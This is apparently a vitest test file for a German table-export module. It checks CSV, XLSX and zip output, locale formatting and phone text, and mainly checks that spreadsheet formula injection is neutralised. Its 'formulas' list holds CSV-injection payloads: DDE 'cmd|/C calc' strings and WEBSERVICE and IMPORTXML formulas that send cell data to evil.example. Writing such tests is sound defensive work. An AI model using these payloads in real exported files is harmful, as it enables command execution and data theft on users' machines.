import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { buffer } from 'node:stream/consumers';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { strFromU8, unzipSync } from 'fflate';
import { SaxesParser } from 'saxes';
import { describe, expect, test } from 'vitest';
import { openTable } from '#platform/tables';
import { type Column, csv, harmless, phoneText, xlsx, zip } from '#platform/write-table';

const manner = { locale: 'de', zone: 'Europe/Berlin' } as const;
const at = new Date('2026-11-23T09:30:00Z');

/** What spreadsheets have been tricked with, and what only looks like it. */
const formulas = [
  '=1+1', '=cmd|\'/C calc\'!A0', '=HYPERLINK("http://evil.example","Klick")', '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
  '=DDE("cmd";"/C calc";"x")', '=WEBSERVICE("http://evil.example/"&A1)', '=1+1+cmd|\' /C calc\'!A0', '=@SUM(1+1)*cmd|\' /C calc\'!A0',
  '+1+1', '+cmd|\'/C calc\'!A0', '+HYPERLINK("x")', '-1+1', '-cmd|\'/C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)', '@A1', '@cmd',
  '\t=1+1', '\r=1+1', '\n=1+1', '\t+1', '\r-1', '\n@A1', '\tplain', '\rplain', '\nplain', ' =1+1', '  =1+1', '\u00a0=1+1', '\u200b=1+1',
  '\ufeff=1+1', ' \t=1+1', '＝1+1', '＋1+1', '－1+1', '＠SUM(1)', ' ＝1+1', '﹦1+1', '﹢1', '﹣1', '﹫A1', '=', '+', '-', '@', '--', '=-', '+-',
  '=SUM(1;2)', '=A1;B1', '=A1,B1', '="a"&"b"', '="\n"', '=\u0000cmd', '\u0000=1+1', '\u0001=1+1', '=1+1\r\n=2+2', '- Rückruf morgen', '+49 abc',
  '+49 561 =1+1', '@kassel', '-5', '+5', '=TRUE', '=A1:A10', '=\'Sheet\'!A1', '=INDIRECT("A1")', '=RAND()', '\u2060=1',
]; // prettier-ignore

type Row = { text: string | null; phone?: string; cents?: number; day?: string; instant?: Date; number?: number };
const text: Column<Row>[] = [{ header: 'Text', kind: 'text', value: (row) => row.text }];
async function* batches(...rows: Row[][]): AsyncGenerator<Row[]> {
  yield* rows;
}
const read = async (pieces: AsyncIterable<Uint8Array>) => buffer(pieces);
const readCsv = (file: Buffer, delimiter = ';'): string[][] =>
  parse(file, { bom: true, delimiter, relax_column_count: false });

describe('formulas', () => {
  test('are at least sixty', () => expect(formulas.length).toBeGreaterThanOrEqual(60));

  test.each([';', ','] as const)('stay text in CSV with %s', async (separator) => {
    const rows = formulas.map((value) => ({ text: value }));
    const lines = readCsv(await read(csv(text, batches(rows), { ...manner, separator })), separator).slice(1);
    expect(lines).toHaveLength(formulas.length);
    for (const [index, [cell = '']] of lines.entries()) {
      expect({ payload: formulas[index], begins: cell[0] }).toEqual({ payload: formulas[index], begins: "'" });
    }
  });

  test('stay text in XLSX: text cells all, no formula anywhere', async () => {
    const rows = formulas.map((value) => ({ text: value }));
    const parts = unzipSync(await read(xlsx(text, batches(rows), { ...manner, title: 'Test', at })));
    const cells = cellsOf(strFromU8(parts['xl/worksheets/sheet1.xml'] ?? new Uint8Array()));
    expect(cells).toHaveLength(formulas.length + 1);
    for (const cell of cells) expect(cell).toMatchObject({ type: 'inlineStr', formula: false });
    for (const { value } of cells.slice(1)) expect(value[0]).toBe("'");
  });

  test.each([['Müller & Söhne'], ['a=b'], ['3-Zimmer'], ['info@example.de'], ['1+1'], ['„So nicht“'], ['']])(
    'what is none stays as it is: %s',
    (value) => expect(harmless(value)).toBe(value),
  );

  test('whatever a text begins with, no cell begins like a formula', () => {
    const beginning = fc.constantFrom(
      '',
      ' ',
      '\t',
      '\r',
      '\n',
      '=',
      '+',
      '-',
      '@',
      '＝',
      '\u200b',
      '\u0000',
      '"',
      "'",
      ';',
    );
    fc.assert(
      fc.property(fc.array(beginning, { maxLength: 5 }), fc.string({ unit: 'binary' }), (start, rest) => {
        const cell = harmless(start.join('') + rest);
        expect(cell).not.toMatch(/^[\s\u200b]*[=+\-@＝＋－＠]/u);
      }),
      { numRuns: 2000 },
    );
  });
});

describe('numbers of telephones', () => {
  test.each([
    ['+495611234567', '+49 5611234567'],
    ['+4366012345678', '+43 66012345678'],
    ['+35220301234', '+352 20301234'],
    ['+12125550123', '+1 2125550123'],
    ['+49 561', "'+49 561"],
    ['+49561=1', "'+49561=1"],
    ['', ''],
  ])('%s reads %s', (number, written) => expect(phoneText(number)).toBe(written));
});

describe('a CSV file', () => {
  const columns: Column<Row>[] = [
    { header: 'Name', kind: 'text', value: (row) => row.text },
    { header: 'Telefon', kind: 'phone', value: (row) => row.phone },
    { header: 'Wert', kind: 'cents', value: (row) => row.cents },
    { header: 'Am', kind: 'day', value: (row) => row.day },
    { header: 'Um', kind: 'instant', value: (row) => row.instant },
    { header: 'Anteil', kind: 'number', value: (row) => row.number },
  ];
  const row = {
    text: 'Weiß; "Karl"',
    phone: '+495611234567',
    cents: 123456,
    day: '2026-03-29',
    instant: new Date('2026-03-29T01:30:00Z'),
    number: 0.5,
  };

  test('opens in German Excel: mark, semicolons, German days and decimals, the clock of the workspace', async () => {
    const file = await read(csv(columns, batches([row]), { ...manner, separator: ';' }));
    expect(file.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(file.toString().slice(1)).toBe(
      'Name;Telefon;Wert;Am;Um;Anteil\r\n"Weiß; ""Karl""";+49 5611234567;1234,56;29.03.2026;29.03.2026 03:30;0,5\r\n',
    );
  });

  test('can be had in English', async () => {
    const file = await read(csv(columns, batches([row]), { locale: 'en', zone: 'Europe/Berlin', separator: ',' }));
    expect(file.toString().split('\r\n')[1]).toBe(
      '"Weiß; ""Karl""",+49 5611234567,1234.56,2026-03-29,2026-03-29 03:30,0.5',
    );
  });

  test('gives any text back as it was, but for the apostrophe and what no file can hold', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 1, maxLength: 20 }), async (texts) => {
        const lines = readCsv(
          await read(csv(text, batches(texts.map((value) => ({ text: `x${value}` }))), { ...manner, separator: ';' })),
        );
        expect(lines.slice(1).map(([cell]) => cell)).toEqual(texts.map((value) => harmless(`x${value}`)));
      }),
      { numRuns: 50 },
    );
  });
});

describe('an XLSX file', () => {
  test('is read again by our own reader: texts, days, amounts', async () => {
    const columns: Column<Row>[] = [
      { header: 'Name', kind: 'text', value: (row) => row.text },
      { header: 'Telefon', kind: 'phone', value: (row) => row.phone },
      { header: 'Am', kind: 'day', value: (row) => row.day },
      { header: 'Wert', kind: 'cents', value: (row) => row.cents },
    ];
    const rows = [
      { text: 'Çelik <b>&amp;</b> _x000D_', phone: '+495611234567', day: '2026-11-23', cents: 123456 },
      { text: 'zwei\nZeilen', phone: '+43660123456', day: '1999-12-31', cents: 0 },
    ];
    const folder = await mkdtemp(join(tmpdir(), 'klinke-xlsx-'));
    try {
      const path = join(folder, 'liste.xlsx');
      await writeFile(path, xlsx(columns, batches(rows), { ...manner, title: 'Menschen', at }));
      await using table = await openTable(path, { knowsHeader: () => true });
      expect(table.headers).toEqual(['Name', 'Telefon', 'Am', 'Wert']);
      const cells: unknown[] = [];
      for await (const batch of table.rows()) cells.push(...batch.map((one) => one.cells));
      expect(JSON.stringify(cells)).toContain('Çelik <b>&amp;</b> _x000D_');
      expect(JSON.stringify(cells)).toContain('+49 5611234567');
      expect(JSON.stringify(cells)).toContain('2026-11-23');
    } finally {
      await rm(folder, { recursive: true });
    }
  });

  test('goes on with another sheet where one is full', async () => {
    const rows = Array.from({ length: 25 }, (_, n) => ({ text: `Zeile ${n}` }));
    const file = await read(
      xlsx(text, batches(rows.slice(0, 7), rows.slice(7)), { ...manner, title: 'Menschen', at, rowsPerSheet: 11 }),
    );
    const parts = unzipSync(file);
    const sheets = Object.keys(parts).filter((name) => name.startsWith('xl/worksheets/'));
    expect(sheets).toHaveLength(3);
    const values = sheets.map((name) => cellsOf(strFromU8(parts[name] ?? new Uint8Array())).map(({ value }) => value));
    expect(values.map((list) => list[0])).toEqual(['Text', 'Text', 'Text']);
    expect(values.flatMap((list) => list.slice(1))).toEqual(rows.map((one) => one.text));
    expect(strFromU8(parts['xl/workbook.xml'] ?? new Uint8Array())).toContain('name="Menschen 3"');
  });

  test('of no rows is a file all the same', async () => {
    const parts = unzipSync(await read(xlsx(text, batches(), { ...manner, title: 'Leer', at })));
    expect(cellsOf(strFromU8(parts['xl/worksheets/sheet1.xml'] ?? new Uint8Array()))).toHaveLength(1);
  });

  test('closes its source when the reader goes away', async () => {
    let closed = false;
    async function* endless(): AsyncGenerator<Row[]> {
      try {
        for (;;) yield [{ text: 'x'.repeat(1000) }];
      } finally {
        closed = true;
      }
    }
    let bytes = 0;
    for await (const piece of xlsx(text, endless(), { ...manner, title: 'Endlos', at })) {
      bytes += piece.length;
      if (bytes > 1000) break;
    }
    await expect.poll(() => closed).toBe(true);
  });
});

describe('a zip archive', () => {
  async function* once(content: string) {
    yield Buffer.from(content);
  }

  test('of large and small parts is understood by another program', async () => {
    const parts = [
      { name: 'klein.txt', content: once('Grüße') },
      { name: 'ordner/groß.bin', content: once('x'.repeat(100_000)), large: true },
      { name: 'leer.txt', content: once('') },
    ];
    const unpacked = unzipSync(await read(zip(parts, at)));
    expect(strFromU8(unpacked['klein.txt'] ?? new Uint8Array())).toBe('Grüße');
    expect(unpacked['ordner/groß.bin']).toHaveLength(100_000);
    expect(unpacked['leer.txt']).toHaveLength(0);
  });

  test('breaks off when a part does', async () => {
    async function* broken() {
      yield Buffer.from('halb');
      throw new Error('die Platte ist voll');
    }
    await expect(read(zip([{ name: 'x', content: broken() }], at))).rejects.toThrow('die Platte ist voll');
  });
});

type Cell = { type: string | undefined; formula: boolean; value: string };

function cellsOf(xml: string): Cell[] {
  const cells: Cell[] = [];
  const parser = new SaxesParser();
  parser.on('opentag', ({ name, attributes }) => {
    if (name === 'c') cells.push({ type: attributes['t'], formula: false, value: '' });
    const last = cells.at(-1);
    if (name === 'f' && last) last.formula = true;
  });
  parser.on('text', (value) => {
    const last = cells.at(-1);
    if (last) last.value += value;
  });
  parser.write(xml).close();
  return cells;
}
